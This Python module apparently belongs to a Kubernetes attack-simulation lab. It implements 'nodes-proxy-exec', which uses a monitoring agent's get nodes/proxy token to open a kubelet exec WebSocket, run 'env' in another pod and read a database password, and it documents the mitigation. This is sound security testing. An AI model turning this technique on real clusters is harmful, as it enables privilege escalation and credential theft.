"""Run a command in any container with only the right to get nodes/proxy.

A WebSocket starts with a GET request, and the kubelet authorizes this request with the verb
``get``, even for exec. The right that monitoring agents get "to read only" therefore runs
commands. The attacker needs a foothold in a pod whose account has this right. They open a
WebSocket to the kubelet and read a secret from another container. An agent that gets
``nodes/metrics`` instead of ``nodes/proxy`` stops it.
"""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING, Any

from labkit import agents
from labkit.errors import ProbeError, ProbeTimeout
from labkit.model import Foothold, Model, read_model
from labkit.model.credentials import client_credential
from labkit.model.decision import ALLOWED, Action, decide_at_kubelet
from labkit.model.rights import bearer_at_kubelet
from labkit.model.workloads import token_caller, token_in
from labkit.techniques._lib.api.kubelet import (
    CHANNEL,
    as_apiserver,
    retry_unknown_pod,
    runs_commands,
)
from labkit.techniques._lib.machines.pod import find_pod, token_of, without_token
from labkit.techniques._lib.machines.reach import address_in_lab, run
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import POD, SECRETS, Prediction, Technique, all_of, holds
from labkit.techniques._lib.verdict import Setting, Verdict, decided

if TYPE_CHECKING:
    from labkit.cluster import Environment
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

#: The pod whose account has the right to get nodes/proxy.
AGENT = ("monitoring", "agent")
KUBELET = "kubelet@worker1"
WANTED = ("shop", "db-credentials", "password")
PATH = "/exec/shop/web/web?command=env&output=1&error=1"
ACTION = Action("get", "nodes/proxy", name="worker1")
#: 405 if the handlers for debugging are off.
SWITCHING, REFUSED, OFF = 101, (401, 403), 405


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict how the kubelet identifies the agent, and whether it may get nodes/proxy."""
    env, kubelet = model.environment, model.environment.component(KUBELET)
    agent = token_caller(env, *AGENT)
    if agent is None:
        return Prediction(False, (str(token_in(env, *AGENT)),))
    caller = bearer_at_kubelet(env, kubelet, agent)
    found = decide_at_kubelet(env, kubelet, caller, ACTION)
    known = Prediction(True, (str(caller.claim),))
    return all_of(known, holds(found.claim, ALLOWED), runs_commands(kubelet))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Run ``env`` in the pod shop/web with the token of monitoring/agent, from the agent's pod."""
    return retry_unknown_pod(lab, lambda: _attempt(lab, foothold))


def _attempt(lab: Lab, foothold: Foothold) -> Verdict:
    secret = true_secret(lab, *WANTED)
    channel = read_model(lab.environment).open_channels(CHANNEL)[0]
    pod = find_pod(lab, *AGENT)
    token = token_of(lab, pod)
    if token is None:
        return without_token(lab, TECHNIQUE.name, foothold, *AGENT)

    def call(node: str, prefix: list[str], bearer: str, *pair: str) -> dict[str, Any]:
        where = [address_in_lab(lab, "worker1"), str(channel.port), PATH]
        argv = [*prefix, *agents.argv("websocket_exec", *where, *pair)]
        output = run(lab, node, argv, stdin=bearer.encode())
        if output.exit_code:
            last = output.error.strip().splitlines()[-1:]
            error = ProbeTimeout if "TimeoutError" in output.error else ProbeError
            raise error(f"{TECHNIQUE.name}: no answer to the handshake", evidence=last)
        said: dict[str, Any] = json.loads(output.stdout)
        if said["status"] not in (SWITCHING, *REFUSED, OFF):
            raise ProbeError(f"{TECHNIQUE.name}: HTTP {said['status']}", evidence=[said["body"]])
        if said["status"] == SWITCHING and not secret.found_in(base64.b64decode(said["output"])):
            raise ProbeError(
                "the command ran, but its output does not hold the secret", evidence=[said["end"]]
            )
        return said

    said = call(pod.node, pod.prefix, token)
    asked = "GET /exec/shop/web/web at worker1, to become a WebSocket, with the agent's token"
    if said["status"] == SWITCHING:
        evidence = (asked, f"ran env in shop/web over {said['protocol']}", f"read: {secret.proof}")
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, "HTTP 101", evidence)
    credential = client_credential(read_model(lab.environment), channel)
    if credential is None:
        raise ProbeError("the apiserver has no client certificate for the kubelets")
    node = channel.client_node
    status = call(node, [], "", credential.certificate, credential.key)["status"]
    if status not in (SWITCHING, OFF):
        raise ProbeError("positive control: the kubelet refuses the apiserver, too")
    control = "with the apiserver's certificate, the same WebSocket runs the command"
    if status == OFF:
        as_apiserver(lab, "GET", "/pods")
        control = "with the apiserver's certificate, it lists its pods; it runs commands for nobody"
    reason = f"HTTP {said['status']}"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (asked,), control)


def _settings(env: Environment) -> list[Setting]:
    model = read_model(env)
    agent = token_caller(env, *AGENT)
    if agent is None:
        token = token_in(env, *AGENT)
        return [("what the agent may get", token.value, str(token.source))]
    kubelet = env.component(KUBELET)
    found = decide_at_kubelet(
        env, kubelet, bearer_at_kubelet(model.environment, kubelet, agent), ACTION
    )
    return [decided("whether the agent may get nodes/proxy", found.claim)]


TECHNIQUE = Technique(
    name="nodes-proxy-exec",
    title="Run a command in any container with the right to get nodes/proxy",
    footholds=(POD,),
    grants=(SECRETS,),
    about=CHANNEL,
    properties=("authorization",),
    attack=("T1609", "T1528", "T1552.007"),
    stride=("elevation of privilege", "information disclosure"),
    cwe=("CWE-863", "CWE-250"),
    sources=(
        "https://kubernetes.io/docs/reference/access-authn-authz/kubelet-authn-authz/#get-nodes-proxy-warning",
        "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#access-to-proxy-subresource-of-nodes",
        "https://github.com/kubernetes/kubernetes/pull/136550",
        "https://attack.mitre.org/techniques/T1609/",
    ),
    predict=predict,
    execute=execute,
    settings=_settings,
)
